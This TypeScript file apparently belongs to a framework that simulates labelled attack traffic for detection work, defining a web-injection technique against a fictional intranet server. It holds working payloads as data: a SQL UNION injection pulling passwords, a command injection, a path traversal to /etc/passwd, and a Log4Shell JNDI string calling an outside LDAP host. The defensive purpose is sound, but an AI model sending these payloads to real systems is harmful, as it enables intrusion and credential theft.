import { HOSTS } from "../../estate/company.ts";
import { BROWSER_AGENT, httpRequest, httpResponse } from "../../speak/http.ts";
import { bindResponse, simpleBind, unbind } from "../../speak/ldap.ts";
import { ascii, joined } from "../../wire/byte-writer.ts";
import { onlyStep, STRANGER, type Technique } from "../technique.ts";

/** Target and user agent of each request, and what the server says to it. */
const REQUESTS: readonly (readonly [target: string, agent: string, answer: string])[] = [
  ["/orders?id=7", BROWSER_AGENT, "<p>Order 7</p>"],
  ["/orders?id=7%27+UNION+SELECT+name,password+FROM+users--+-", BROWSER_AGENT, "<p>No such order</p>"],
  ["/status?host=127.0.0.1;id", BROWSER_AGENT, "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"],
  ["/report?file=..%2f..%2f..%2f..%2fetc/passwd", BROWSER_AGENT, "<p>No such report</p>"],
  ["/", `\${jndi:ldap://${STRANGER.ip}:1389/a}`, "<p>Welcome</p>"],
];

export const webInjection: Technique = {
  name: "web-injection",
  shows:
    "A web server is sent SQL, a command whose output it returns, a path out of its folder, and a name to look up, which it does.",
  isAttack: true,
  play(stage) {
    const step = onlyStep(stage, STRANGER, HOSTS.intranet, {
      phase: "initial-access",
      attack: ["T1190"],
      account: null,
      what: "Sent requests that hold SQL, commands and a lookup to a web server",
      detections: ["BT-IA-019", "BT-IA-025"],
    });
    const talk = stage.talk();
    talk.shows = step;
    for (const [i, [target, agent, answer]] of REQUESTS.entries()) {
      talk.client(httpRequest("GET", target, "intranet.norrvik.example", agent), i === 0 ? 0 : 2e9);
      const body = ascii(answer);
      talk.server(joined(httpResponse("200 OK", "text/html", body.length, stage.wallMs(1e9 + i * 2e9)), body));
    }
    stage.tcp(1e9, STRANGER, HOSTS.intranet, 80, talk.taken(), { witness: step });
    const lookup = stage.talk();
    lookup.shows = step;
    lookup.client(simpleBind(1, "", ""));
    lookup.server(bindResponse(1, 0));
    lookup.client(unbind(2));
    stage.tcp(9.5e9, HOSTS.intranet, STRANGER, 1389, lookup.taken(), { witness: step });
  },
};
